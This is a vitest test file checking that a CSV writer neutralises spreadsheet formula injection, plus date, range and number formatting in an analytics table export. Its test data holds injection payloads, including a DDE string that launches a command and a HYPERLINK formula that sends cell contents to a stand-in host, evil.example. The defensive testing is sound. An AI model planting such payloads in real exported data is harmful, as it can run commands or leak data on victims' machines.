import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { tableSheet } from './table-sheet.ts';
import { writeCsv } from './write-csv.ts';
import type { Report } from '../report.ts';

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '"=', "'\t=", '\u200b='];
const formulas = ['1+1', `cmd|' /C calc'!A0`, 'HYPERLINK("http://evil.example?x="&A1,"x")', 'SUM(1+9)*cmd'];
/** Sixty page titles that anybody can send; half of them hide behind something that might end a cell. */
const payloads = starts.flatMap((start, row) =>
  formulas.map((formula, column) => `${['', 'a,', 'b;', 'c"', 'd\n', 'e|'][(row + column) % 6]}${start}${formula}`),
);

const report = {
  language: 'en',
  quality: { time_zone: 'UTC', currency: 'EUR' },
  citations: [
    { id: 't1', request: { dateRanges: [{ startDate: '2026-11-01', endDate: '2026-11-02', name: 'this' }] } },
  ],
} as unknown as Report;

function parseBack(text: string): string[][] {
  return parse(text, { bom: true, relax_quotes: false }) as string[][];
}

describe('writeCsv', () => {
  it.each(payloads)('lets no cell start a formula: %j', (payload) => {
    const text = writeCsv({
      name: 't1',
      header: [payload, 'Sessions'],
      rows: [[{ text: payload }, { number: -1204.5, unit: 'count' }]],
    });
    const [header, row, ...more] = parseBack(text);
    expect([header?.length, row?.length, more]).toEqual([2, 2, []]);
    for (const cell of [header?.[0] ?? '', row?.[0] ?? '']) {
      for (const part of cell.split(/[,;|\t\r\n]/))
        expect(part.replace(/^[\s"\p{Cf}]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠]/);
      // Nothing but apostrophes was added.
      expect(cell.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
    }
    // A number that is one stays one, also below zero.
    expect(row?.[1]).toBe('-1204.5');
  });

  it('has sixty of them', () => expect(new Set(payloads).size).toBe(60));

  it('ends each line as RFC 4180 has it, begins with the mark of UTF-8, and leaves empty what is not known', () => {
    const text = writeCsv({ name: 't1', header: ['Day', 'Rate'], rows: [[{ day: '2026-11-01' }, undefined]] });
    expect(text).toBe('\ufeff"Day","Rate"\r\n2026-11-01,\r\n');
  });
});

describe('tableSheet', () => {
  it('writes days as days, ranges as the days that they are, and numbers as they came', () => {
    const sheet = tableSheet(report, 't1', {
      dimensions: [
        { name: 'date', label: 'Date' },
        { name: 'dateRange', label: 'Date range' },
        { name: 'pageTitle', label: 'Page title' },
      ],
      metrics: [
        { name: 'totalRevenue', label: 'Revenue', type: 'TYPE_CURRENCY', unit: 'currency' },
        { name: 'bounceRate', label: 'Bounce rate', type: 'TYPE_FLOAT', unit: 'fraction' },
      ],
      rows: [{ dimensions: ['20261101', 'this', ''], metrics: [1204.5, 0.0812] }],
      row_count: 1,
    });
    expect(sheet.header).toEqual(['Date', 'Date range', 'Page title', 'Revenue (EUR)', 'Bounce rate']);
    expect(parseBack(writeCsv(sheet))[1]).toEqual([
      '2026-11-01',
      '2026-11-01 – 2026-11-02',
      expect.stringMatching(/empty/i),
      '1204.5',
      '0.0812',
    ]);
  });
});
